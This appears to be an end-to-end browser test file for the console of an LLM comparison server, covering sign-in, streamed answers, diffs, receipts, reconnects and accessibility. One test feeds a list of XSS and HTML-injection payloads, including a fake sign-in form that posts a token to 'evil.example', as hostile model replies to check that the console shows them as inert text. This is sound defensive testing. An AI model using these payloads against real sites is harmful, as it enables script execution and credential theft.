/** Compare, in the console of a started server: what a person does there, and what hostile replies cannot do. */
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect } from "vitest";
import { it } from "../support/browser-test.node.ts";
import { LOOKS, look } from "../support/console.node.ts";
import { startGatedProvider } from "../support/gated-provider.node.ts";
import type { GatedCall, GatedProvider } from "../support/gated-provider.node.ts";
import { startLocalServer } from "../support/local-server.node.ts";
import type { LocalServer } from "../support/local-server.node.ts";

let provider: GatedProvider;
let server: LocalServer;

beforeAll(async () => {
  provider = await startGatedProvider();
  server = await startLocalServer();
  for (const name of ["One", "Two"])
    await server.parley.endpoints.create({
      name,
      connector_type: "openai-connector",
      uri: provider.uri,
      token: "t",
      model: name.toLowerCase(),
      params: { max_attempts: 1 },
    });
  await server.parley.endpoints.create({ name: "Down", connector_type: "echo-connector", params: { fail: 503 } });
}, 240_000);

afterAll(() => Promise.all([server.stop(), provider.stop()]));

async function openConsole(page: Page, hash = ""): Promise<void> {
  await page.goto(`${server.address}/console${hash}`);
  await page.getByRole("heading", { name: "Compare models" }).waitFor();
}

/** Begins a comparison. @returns the calls to the gated provider: of One, then of Two */
async function compare(page: Page, endpoints: string[], prompt: string): Promise<GatedCall[]> {
  for (const name of endpoints) await page.getByRole("checkbox", { name }).check();
  await page.getByRole("textbox", { name: "First prompt" }).fill(prompt);
  await page.getByRole("button", { name: "Send" }).click();
  const gated = endpoints.filter((name) => name === "One" || name === "Two");
  const calls = await Promise.all(gated.map(() => provider.nextCall()));
  const models = gated.map((name) => name.toLowerCase());
  return models.map((model) => {
    const call = calls.find((one) => one.model === model);
    if (!call) throw new Error(`${model} was not asked`);
    return call;
  });
}

const answerOf = (page: Page, name: string) => page.getByRole("article", { name: `Answer of ${name}` }).last();

it("signs in: a token that is refused gets a sentence, one that is good the pages; it is kept for the tab only", async ({
  page,
}) => {
  await openConsole(page);
  await page.getByRole("button", { name: "Sign out" }).click();
  const field = page.getByLabel("Token");
  await field.fill("wrong");
  await field.press("Enter");
  await page.getByRole("alert").getByText("The server refused the token").waitFor();
  await field.fill(server.key);
  await field.press("Enter");
  await page.getByRole("heading", { name: "Compare models" }).waitFor();
  await expect.poll(() => page.evaluate("Object.values({ ...localStorage })")).not.toContain(server.key);
  await expect.poll(() => page.evaluate("sessionStorage.getItem('parley.token')")).toBe(server.key);
});

it("compares an endpoint with a chatbot, by their names", async ({ page }) => {
  const { id } = await server.parley.chatbots.create({ name: "Guide", endpointId: "one" });
  await openConsole(page);
  const calls = compare(page, ["One", "Guide"], "What is new?");
  for (const call of [(await calls)[0], await provider.nextCall()]) {
    call?.say("Nothing");
    call?.finish();
  }
  await answerOf(page, "One").getByText("Nothing").waitFor();
  await answerOf(page, "Guide").getByText("Nothing").waitFor();
  await server.parley.chatbots.delete(id);
});

it("shows what the answer of a chatbot cost, at the prices of its endpoint", async ({ page }) => {
  const { chatbots, comparisons, endpoints } = server.parley;
  const prices = { input_per_million: 1000, output_per_million: 1000 };
  const paid = { name: "Paid", connector_type: "echo-connector" as const, prices };
  const { id: endpointId } = await endpoints.create(paid);
  const { id } = await chatbots.create({ name: "Dear", endpointId });
  const { session_id } = await comparisons.create({ name: "c", endpoints: [`chatbot:${id}`] });
  await comparisons.prompt(session_id, { prompt: "Hello" });
  await page.goto(`${server.address}/console#/compare/${session_id}`);
  await answerOf(page, "Dear")
    .getByText(/cost 0\.\d*[1-9]/)
    .waitFor();
  await chatbots.delete(id);
  await endpoints.delete(endpointId);
});

it("takes a token from the address, and out of it", async ({ page }) => {
  await openConsole(page, `#token=${server.key}`);
  expect(page.url()).toBe(`${server.address}/console`);
});

it("says that the token of the address was refused, and signs nobody in instead", async ({ page }) => {
  await page.goto(`${server.address}/console#token=bad`);
  await page.getByRole("alert").getByText("The server refused the token").waitFor();
  await expect.poll(() => page.getByRole("heading", { name: "Compare models" }).count()).toBe(0);
});

it("compares three endpoints over one connection, one of which fails", async ({ page }) => {
  const sockets: string[] = [];
  page.on("websocket", (socket) => sockets.push(socket.url()));
  await openConsole(page);
  const [one, two] = await compare(page, ["One", "Two", "Down"], "What is new?");
  one?.say("First ");
  await answerOf(page, "One").getByText("First").waitFor();
  two?.say("Second");
  await answerOf(page, "Two").getByText("Second").waitFor();
  await answerOf(page, "Down").getByText("provider_overloaded").waitFor();
  await answerOf(page, "Down").getByText("failed").waitFor();
  one?.say("**answer**");
  one?.finish();
  await answerOf(page, "One").getByText("complete").waitFor();
  await answerOf(page, "One").locator("strong", { hasText: "answer" }).waitFor();
  await answerOf(page, "Two").getByText("writing").waitFor();
  two?.finish();
  await page.getByText("2 complete, 1 failed").waitFor();
  await expect.poll(() => answerOf(page, "One").getByText("finish stop").count()).toBe(1);
  expect(sockets).toHaveLength(1);
});

it("goes on with the next prompt, and marks what differs between two answers", async ({ page }) => {
  await openConsole(page);
  const [one, two] = await compare(page, ["One", "Two"], "Say a thing");
  for (const call of [one, two]) {
    call?.say("First");
    call?.finish();
  }
  await page.getByText("2 complete").waitFor();
  await expect.poll(() => focusedName(page)).toBe("Next prompt");
  await page.keyboard.type("Another");
  await page.keyboard.press("Enter");
  const calls = await Promise.all([provider.nextCall(), provider.nextCall()]);
  for (const call of calls) {
    call.say(call.model === "one" ? "The cat sat" : "The dog sat");
    call.finish();
  }
  const turn = page.getByRole("region", { name: "Prompt 2" });
  await turn.getByText("2 complete").waitFor();
  await turn.getByRole("button", { name: "Differences" }).click();
  const difference = page.locator(".difference");
  await difference.waitFor();
  await expect.poll(() => difference.locator("del").allTextContents()).toEqual(["cat"]);
  await expect.poll(() => difference.locator("ins").allTextContents()).toEqual(["dog"]);
  await page.getByLabel("To", { exact: true }).selectOption("One");
  await page.getByText("Both answers are the same").waitFor();
  await page.getByLabel("To, answer to").selectOption({ index: 0 });
  await expect.poll(() => difference.locator("del").allTextContents()).toEqual(["The cat sat"]);
  await expect.poll(() => difference.locator("ins").allTextContents()).toEqual(["First"]);
});

it("shows the receipt of an answer with the exact body, statistics, and saves an export", async ({ page }) => {
  await openConsole(page);
  const [one] = await compare(page, ["One"], "For the record");
  one?.say("Noted");
  one?.finish();
  await page.getByText("1 complete").waitFor();
  await page.getByRole("button", { name: "Receipt of One" }).click();
  await page.getByRole("dialog", { name: "Receipt" }).getByText('"content": "For the record"').waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Statistics" }).click();
  await page.getByRole("dialog", { name: "Statistics" }).getByText("Time of the whole answer").waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Export" }).click();
  const download = page.waitForEvent("download");
  await page.getByRole("dialog", { name: "Export" }).getByRole("button", { name: "Save" }).first().click();
  expect((await download).suggestedFilename()).toMatch(/^for-the-record_\d+-\d+\.jsonl$/);
});

it("stops one answer and leaves the others, then all", async ({ page }) => {
  await openConsole(page);
  const [one, two] = await compare(page, ["One", "Two"], "Go on for long");
  one?.say("So far");
  two?.say("So good");
  await answerOf(page, "One").getByText("So far").waitFor();
  await page.getByRole("button", { name: "Stop One" }).click();
  await answerOf(page, "One").getByText("stopped").waitFor();
  await one?.closed;
  two?.say(" indeed");
  await answerOf(page, "Two").getByText("So good indeed").waitFor();
  await page.getByRole("button", { name: "Stop all" }).click();
  await page.getByText("2 stopped").waitFor();
  await expect.poll(() => answerOf(page, "One").locator(".text").textContent()).toMatch(/^So far\s*$/);
  await two?.closed;
});

it("goes on after a reload in mid-stream: nothing is lost or repeated, and drafts are still there", async ({
  page,
}) => {
  await openConsole(page);
  const [one] = await compare(page, ["One"], "Count");
  one?.say("1 2 ");
  await answerOf(page, "One").getByText("1 2").waitFor();
  await page.getByRole("textbox", { name: "Next prompt" }).fill("not sent yet");
  await page.reload();
  await answerOf(page, "One").getByText("1 2").waitFor();
  one?.say("3");
  one?.finish();
  await answerOf(page, "One").getByText("complete").waitFor();
  await expect.poll(() => answerOf(page, "One").locator(".text").textContent()).toMatch(/^1 2 3\s*$/);
  await expect.poll(() => page.getByRole("textbox", { name: "Next prompt" }).inputValue()).toBe("not sent yet");
});

it("keeps the order of the prompts over a reload while the second runs, and has the receipt of the first", async ({
  page,
}) => {
  await openConsole(page);
  const [first] = await compare(page, ["One"], "The earlier one");
  first?.say("Earlier answer");
  first?.finish();
  await page.getByText("1 complete").waitFor();
  await page.getByRole("textbox", { name: "Next prompt" }).fill("The later one");
  await page.getByRole("button", { name: "Send" }).click();
  const second = await provider.nextCall();
  second.say("Later answer");
  await answerOf(page, "One").getByText("Later answer").waitFor();
  await page.reload();
  await answerOf(page, "One").getByText("Later answer").waitFor();
  const earlier = page.getByRole("region", { name: "Prompt 1", exact: true });
  await earlier.getByText("The earlier one").waitFor();
  await page.getByRole("region", { name: "Prompt 2", exact: true }).getByText("The later one").waitFor();
  await earlier.getByRole("button", { name: "Receipt of One" }).click();
  await page.getByRole("dialog", { name: "Receipt" }).getByText('"content": "The earlier one"').waitFor();
  second.finish();
});

it("goes on after the connection was lost, and sends then what was written meanwhile", async ({ page }) => {
  await page.routeWebSocket(/\/ws\?/, (socket) => {
    const upstream = socket.connectToServer();
    const cut = () => Promise.all([socket.close(), upstream.close()]);
    cuts.push(cut);
  });
  const cuts: (() => Promise<unknown>)[] = [];
  await openConsole(page);
  const [one] = await compare(page, ["One"], "Count");
  one?.say("1 2 ");
  await answerOf(page, "One").getByText("1 2").waitFor();
  await cuts[0]?.();
  await page.getByRole("textbox", { name: "Next prompt" }).fill("And then?");
  await page.getByRole("button", { name: "Send" }).click();
  one?.say("3");
  one?.finish();
  await page.getByRole("region", { name: "Prompt 1", exact: true }).getByText("1 complete").waitFor();
  const next = await provider.nextCall();
  expect(next.messages).toEqual(["And then?"]);
  next.finish();
  await page.getByRole("region", { name: "Prompt 2", exact: true }).getByText("1 complete").waitFor();
  await expect.poll(() => page.locator(".turn .text-formatted").first().textContent()).toMatch(/^1 2 3\s*$/);
  expect(cuts.length).toBeGreaterThan(1);
});

/** What a reply may try, in Markdown and in HTML. Each would set `attacked` or call the address. */
const attacks = (address: string) => [
  "<script>attacked = 1</script>",
  "<img src=x onerror='attacked = 1'>",
  `![pixel](${address}/pixel.png)`,
  `<img src="${address}/pixel.png">`,
  "<svg onload='attacked = 1'></svg>",
  "<svg><animate onbegin='attacked = 1' attributeName=x dur=1s></svg>",
  `<iframe src="javascript:parent.attacked = 1"></iframe><object data="${address}"></object><embed src="${address}">`,
  `<form action="${address}/steal"><input name="token" placeholder="Your token"><button>Sign in again</button></form>`,
  "[click](javascript:attacked=1) [data](data:text/html,<script>attacked=1</script>) <a href=' javascript:attacked=1'>me</a>",
  "<style>* { display: none }</style><link rel=stylesheet href=//evil.example/x.css><p style='position:fixed;inset:0'>over</p>",
  `<meta http-equiv=refresh content="0;url=${address}"><base href="${address}">`,
  "<details open ontoggle='attacked = 1'><summary>more</summary></details><video><source onerror='attacked = 1'></video>",
  "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=attacked=1&gt;'></math>",
  "<div id='console'></div><button popovertarget=x>x</button><dialog open>Session expired</dialog>",
];

it("shows hostile replies as text: no script, no image, no form, no style, nothing from elsewhere", async ({
  page,
}) => {
  const address = "http://evil.example";
  const calls: string[] = [];
  page.on("request", (request) => calls.push(request.url()));
  await openConsole(page);
  const [one] = await compare(page, ["One"], "<img src=x onerror='attacked = 1'>");
  one?.say(attacks(address).join("\n\n"));
  await answerOf(page, "One").getByText("pixel").first().waitFor();
  one?.finish();
  await answerOf(page, "One").getByText("complete").waitFor();
  const text = answerOf(page, "One").locator(".text-formatted");
  await text.locator("a").first().waitFor();
  await expect.poll(() => page.evaluate("'attacked' in window")).toBe(false);
  const dangerous =
    "script, img, svg, math, iframe, object, embed, form, input, button, style, link, meta, base, video, details, dialog, div";
  await expect.poll(() => text.locator(dangerous).count()).toBe(0);
  await expect.poll(() => text.locator("[style], [id], [class], [onerror], [onload], [name]").count()).toBe(0);
  const links = await text.locator("a[href]").evaluateAll((found) => found.map((link) => link.getAttribute("href")));
  expect(links.filter((link) => !/^https?:/.test(link ?? ""))).toEqual([]);
  const own = new URL(server.address).host;
  expect(calls.filter((url) => new URL(url).host !== own)).toEqual([]);
});

it("works by keyboard alone", async ({ page }) => {
  await openConsole(page);
  await page.getByRole("checkbox", { name: "One" }).focus();
  await page.keyboard.press("Space");
  await page.getByRole("textbox", { name: "First prompt" }).focus();
  await page.keyboard.type("By keyboard");
  await page.keyboard.press("Enter");
  const one = await provider.nextCall();
  one.say("Yes");
  const next = page.getByRole("textbox", { name: "Next prompt" });
  await next.waitFor();
  await tabTo(page, "Stop One");
  await page.keyboard.press("Enter");
  await page.getByText("1 stopped").waitFor();
  await tabTo(page, "Receipt of One");
  await page.keyboard.press("Enter");
  await page.getByRole("dialog", { name: "Receipt" }).waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("dialog").waitFor({ state: "detached" });
  await expect.poll(() => focusedName(page)).toBe("Receipt of One");
});

const focusedName = (page: Page): Promise<string> =>
  page.evaluate("document.activeElement.getAttribute('aria-label') ?? document.activeElement.textContent");

/** Presses Tab until the element with this name has the focus. */
async function tabTo(page: Page, name: string): Promise<void> {
  for (let presses = 0; presses < 40; presses += 1) {
    if ((await focusedName(page)) === name) return;
    await page.keyboard.press("Tab");
  }
  throw new Error(`Tab never reached ${name}`);
}

it("has the name of the page in sight in a narrow window", async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await openConsole(page);
  for (const name of ["Keys", "Compare"]) {
    await page.goto(`${server.address}/console#/${name.toLowerCase()}`);
    await page.locator("nav [aria-current]", { hasText: name }).waitFor();
    const [line, link] = await Promise.all([
      page.locator(".top nav").boundingBox(),
      page.locator("nav [aria-current]").boundingBox(),
    ]);
    if (!line || !link) throw new Error("No navigation");
    expect(link.x).toBeGreaterThanOrEqual(line.x - 1);
    expect(link.x + link.width).toBeLessThanOrEqual(line.x + line.width + 1);
  }
});

it.for(LOOKS)("fits and is accessible: $name", async ({ name, colorScheme, ...size }, { page }) => {
  await page.setViewportSize(size);
  await page.emulateMedia({ colorScheme });
  await openConsole(page);
  await page.getByRole("checkbox", { name: "One" }).waitFor();
  await look(page, `compare-start-${name}`);
  const [one] = await compare(page, ["One", "Down"], "How does it look?");
  one?.say(
    "# A title\n\nSome `code`, a [link](https://example.com), and\n\n| a | table |\n|---|---|\n| with | rows |\n\n",
  );
  await answerOf(page, "One").getByText("A title").waitFor();
  await look(page, `compare-writing-${name}`);
  one?.finish();
  await page.getByText("1 complete, 1 failed").waitFor();
  await answerOf(page, "One").locator("table").waitFor();
  await look(page, `compare-complete-${name}`);
  for (const [button, shown] of [
    ["Receipt of One", ".facts"],
    ["Statistics", ".charts"],
    ["Settings", "textarea"],
  ] as const) {
    await page.getByRole("button", { name: button }).click();
    await page.getByRole("dialog").locator(shown).first().waitFor();
    await look(page, `compare-${button.toLowerCase().replaceAll(" ", "-")}-${name}`);
    await page.keyboard.press("Escape");
  }
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByLabel("Token").waitFor();
  await look(page, `compare-sign-in-${name}`);
});
